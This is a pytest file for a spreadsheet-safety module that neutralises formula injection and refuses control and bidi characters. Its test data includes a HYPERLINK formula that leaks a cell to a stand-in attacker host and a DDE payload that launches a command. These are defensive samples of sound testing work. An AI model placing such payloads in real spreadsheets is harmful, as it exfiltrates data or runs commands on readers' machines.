"""Spreadsheet cells that cannot attack their reader or break the file; characters refused at intake."""

from __future__ import annotations

import doctest
import io
import sys

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

import ivp.lib.cells
from ivp.lib.cells import (
    cell,
    intake_error,
    neutralise_formula,
    refused_characters,
    strip_refused,
    text_cell,
    xlsx_text,
)


def test_examples() -> None:
    result = doctest.testmod(ivp.lib.cells, optionflags=doctest.NORMALIZE_WHITESPACE)
    assert result.attempted > 10
    assert result.failed == 0


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n@SUM(A1)",
        "\u00a0=1",
        "＝1+1",
        "＋1",
        "－1+2",
        "＠SUM(A1)",
        "-",
        "=",
    ],
)
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutralise_formula(text) == "'" + text
    assert cell(text) == "'" + xlsx_text(text)


@pytest.mark.parametrize(
    "value", [-2, -2.5, 0, 3.25, True, None, "-12", "+3,5", "-1.234,5", "1e-3", "", "a=b"]
)
def test_numbers_and_plain_text_stay(value: object) -> None:
    assert neutralise_formula(value) == value
    assert type(neutralise_formula(value)) is type(value)


def _saves(value: str) -> bool:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    try:
        sheet.cell(1, 1, value)
        buffer = io.BytesIO()
        book.save(buffer)
        load_workbook(io.BytesIO(buffer.getvalue()))
    except Exception:  # any failure counts
        return False
    return True


def test_no_code_point_can_break_an_xlsx() -> None:
    # Every code point, in blocks of 4096 (one cell each): after cell() openpyxl writes and reads them all.
    for start in range(0, sys.maxunicode + 1, 4096):
        block = "".join(map(chr, range(start, min(start + 4096, sys.maxunicode + 1))))
        assert _saves(str(cell(block))), hex(start)


def test_xlsx_text_covers_openpyxl_illegal_characters() -> None:
    every_c0 = "".join(map(chr, range(32)))
    assert not ILLEGAL_CHARACTERS_RE.search(xlsx_text(every_c0))
    assert not _saves(every_c0)  # the failure this prevents
    assert xlsx_text("\ud83d") == "\ufffd"  # a lone surrogate cannot be encoded


def test_text_cell_is_always_a_string() -> None:
    assert [text_cell(v) for v in (None, 5, -2, "=1")] == ["", "5", "-2", "'=1"]


@pytest.mark.parametrize(
    ("char", "kind"),
    [
        ("\x00", "control"),
        ("\x01", "control"),
        ("\x1b", "control"),
        ("\x0b", "control"),
        ("\x7f", "control"),
        ("\x85", "control"),
        ("\x9f", "control"),
        ("\u202a", "bidi"),
        ("\u202e", "bidi"),
        ("\u2066", "bidi"),
        ("\u2069", "bidi"),
        ("\ud800", "invalid"),
        ("\uffff", "invalid"),
    ],
)
def test_refused(char: str, kind: str) -> None:
    found = refused_characters(f"ab{char}cd")
    assert [(f.position, f.char, f.kind) for f in found] == [(3, char, kind)]
    assert strip_refused(f"ab{char}cd") == "abcd"
    message = intake_error("Naam", f"ab{char}cd")
    assert message is not None
    assert message.startswith("‘Naam’ bevat een ")
    assert f"U+{ord(char):04X}" in message
    assert "positie 3" in message
    assert char not in message


@pytest.mark.parametrize(
    "text",
    [
        "Regel één\nregel twee",
        "met\ttab",
        "windows\r\nregels",
        "oud mac\rregel",
        "Ünïcödé, ß, ø, ł, ğ, ç",
        "عربى מימין לשמאל \u200f\u200e",
        "emoji 🚲🚓👍🏽 en zwj 👩‍👩‍👧",
        "\u00a0nbsp\u2009thin\u3000ideographic",
    ],
)
def test_allowed(text: str) -> None:
    assert refused_characters(text) == []
    assert intake_error("Tekst", text) is None


def test_message_lists_a_few_and_counts_the_rest() -> None:
    message = intake_error("Tekst", "a\x01b\x02c\x03d\x04e\x05")
    assert message is not None
    assert message.count("U+") == 3
    assert "en nog 2 andere" in message
    assert "Haal deze tekens weg" in message
    assert "Haal dit teken weg" in str(intake_error(None, "a\x01"))
    assert str(intake_error(None, "a\x01")).startswith("Dit veld bevat ")
    assert "\x01" not in message
